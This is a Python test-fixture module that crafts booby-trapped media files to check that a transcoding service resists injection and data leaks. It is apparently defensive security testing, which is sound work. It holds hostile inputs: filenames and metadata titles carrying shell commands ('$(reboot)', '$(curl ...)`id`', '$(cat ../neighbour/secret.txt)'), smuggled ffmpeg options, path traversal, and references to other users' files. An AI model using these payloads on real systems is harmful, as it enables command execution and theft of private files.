"""Real videos with a trick in them: in their names, in their texts, in what they carry or point to.

None of these is refused for the trick. Each must become a lesson that holds nothing of others, or be refused
because without the others' bytes there is no video left in it.
"""

import struct
import subprocess
from collections.abc import Callable
from pathlib import Path

from tests.transcode.attacks import alias, box, with_reference
from tests.transcode.traps import Traps
from transcode import tools

NAMES = (
    "-i", "-vf movie=x", "-protocol_whitelist", "http:x.mp4", "concat:a|b.mp4", "subfile,,start,0,end,9,,:x.mp4",
    "%05d.mp4", "*.mp4", "file:x.mp4", "pipe:0", "data:text,x.mp4", "crypto:x.mp4", "async:x.mp4", "tee:x.mp4",
    "a\nfile 'x'\n.mp4", "talk.m3u8", "talk.srt", "talk.idx", "talk.sdp", "talk.avs", "x',movie=x,'.mp4",
    "[in]movie=x[out].mp4", "$(reboot).mp4", "`reboot`;reboot&.mp4", "空 格.mp4", "\u202e4pm.exe.mp4",
    "x" * 250 + ".mp4",
    # Jellyfin CVE-2023-49096 and CVE-2025-31499: text of a request became options of ffmpeg.
    "x -i secret.mp4 -f mpegts http:x.mp4", "x.mp4\t-i\tsecret.mp4",
)  # fmt: skip

Trick = Callable[["Workshop"], Path]


class Workshop:
    """Makes tricky files out of one short clip, with our own ffmpeg outside of any sandbox."""

    def __init__(self, traps: Traps, clip: Path) -> None:
        self.traps, self.clip = traps, clip

    def ffmpeg(self, name: str, *arguments: str) -> Path:
        """Run ffmpeg on the clip with `arguments`; the result is among the sources."""
        made = self.traps.sources / name
        argv = [str(tools.ffmpeg()), "-v", "error", "-y", "-i", str(self.clip), *arguments, str(made)]
        subprocess.run(argv, check=True, stdin=subprocess.DEVNULL)
        return made

    def write(self, name: str, content: bytes) -> Path:
        """A file of these bytes among the sources."""
        made = self.traps.sources / name
        made.write_bytes(content)
        return made

    def told(self, name: str, text: str) -> Path:
        """The clip with `text` in all that may hold text."""
        words = [f"-metadata={key}={text}" for key in ("title", "artist", "comment", "location", "encoder")]
        split = [part for word in words for part in word.split("=", 1)]
        return self.ffmpeg(name, "-c", "copy", *split)

    def side(self, name: str, text: str) -> str:
        """A text file that ffmpeg may read while it makes the trick."""
        made = self.traps.sources / name
        made.write_text(text)
        return str(made)


def dref(reference: Callable[[Traps], bytes]) -> Trick:
    """The clip, its samples said to lie elsewhere."""
    return lambda shop: shop.write("dref.mp4", with_reference(shop.clip.read_bytes(), reference(shop.traps)))


def linked_cover(shop: Workshop) -> Path:
    """Music whose cover is an address (ID3v2.4, APIC with the type "-->")."""
    frame = b"\x00-->\x00\x03\x00" + f"{shop.traps.http}/cover.jpg".encode()
    size = len(frame) + 10
    tag = b"ID3\x03\x00\x00" + struct.pack(">I", size) + b"APIC" + struct.pack(">I", len(frame)) + b"\0\0" + frame
    return shop.write(
        "linked.mp3", tag + shop.ffmpeg("plain.mp3", "-vn", "-c:a", "mp3", "-id3v2_version", "0").read_bytes()
    )


def attached(shop: Workshop) -> Path:
    """A Matroska file with an attachment whose name leads out of the folder."""
    font = shop.side("font.ttf", "no font")
    words = [
        "-attach",
        font,
        "-metadata:s:t",
        "mimetype=font/ttf",
        "-metadata:s:t",
        f"filename={shop.traps.of('planted.ttf')}",
    ]
    return shop.ffmpeg("attached.mkv", "-c", "copy", *words)


def captioned(shop: Workshop) -> Path:
    """Captions that name fonts, files and filters."""
    style = "Style: Default,../neighbour/secret.txt,20,&H0,&H0,&H0,&H0,0,0,0,0,100,100,0,0,1,1,0,2,1,1,1,1"
    line = (
        r"Dialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,{\fn" + shop.traps.of("secret.txt") + r"}movie=x:ffconcat"
    )
    script = (
        f"[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\nFormat: Name\n{style}\n[Events]\nFormat: Text\n{line}\n"
    )
    side = shop.side("words.ass", script)
    return shop.ffmpeg("captioned.mkv", "-i", side, "-map", "0", "-map", "1", "-c", "copy")


def chaptered(shop: Workshop) -> Path:
    """Chapters whose titles are commands."""
    text = ";FFMETADATA1\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=300\ntitle=$(cat ../neighbour/secret.txt)\n"
    return shop.ffmpeg(
        "chaptered.mkv", "-i", shop.side("chapters.txt", text), "-map", "0", "-map_metadata", "1", "-c", "copy"
    )


def reference_movie(shop: Workshop) -> Path:
    """A QuickTime reference movie, which only says where the real one lies (`rmra`)."""
    address = f"{shop.traps.http}/a.mov".encode() + b"\0"
    rdrf = box(b"rdrf", b"\0\0\0\0", b"url ", struct.pack(">I", len(address)), address)
    return shop.write("ref.mov", box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", rdrf))))


TRICKS: dict[str, tuple[Trick, str | None]] = {
    "a title that is a filter": (lambda shop: shop.told("t1.mp4", f"x',movie={shop.traps.of('secret.mp4')},'"), None),
    "a title that is a command": (lambda shop: shop.told("t2.mkv", f"$(curl {shop.traps.http})`id`;id"), None),
    "a title that is options": (lambda shop: shop.told("t3.mp4", f"x -i {shop.traps.of('secret.mp4')} -map 1"), None),
    "a title that is drawn text": (lambda shop: shop.told("t4.mp4", "%{metadata\\:title}%{eif\\:1\\:d}"), None),
    "samples in a neighbour's file by an alias": (dref(lambda traps: alias(traps.of("secret.mp4"))), None),
    "samples in a neighbour's file by a path": (
        dref(lambda traps: box(b"url ", b"\0\0\0\0", f"file://{traps.of('secret.mp4')}\0".encode())), None),
    "samples on a server": (dref(lambda traps: box(b"url ", b"\0\0\0\0", f"{traps.http}/a.mp4\0".encode())), None),
    "a movie that is elsewhere": (reference_movie, "no_streams"),
    "music whose cover is an address": (linked_cover, None),
    "an attachment whose name climbs": (attached, None),
    "captions that name files": (captioned, None),
    "chapters that are commands": (chaptered, None),
}  # fmt: skip
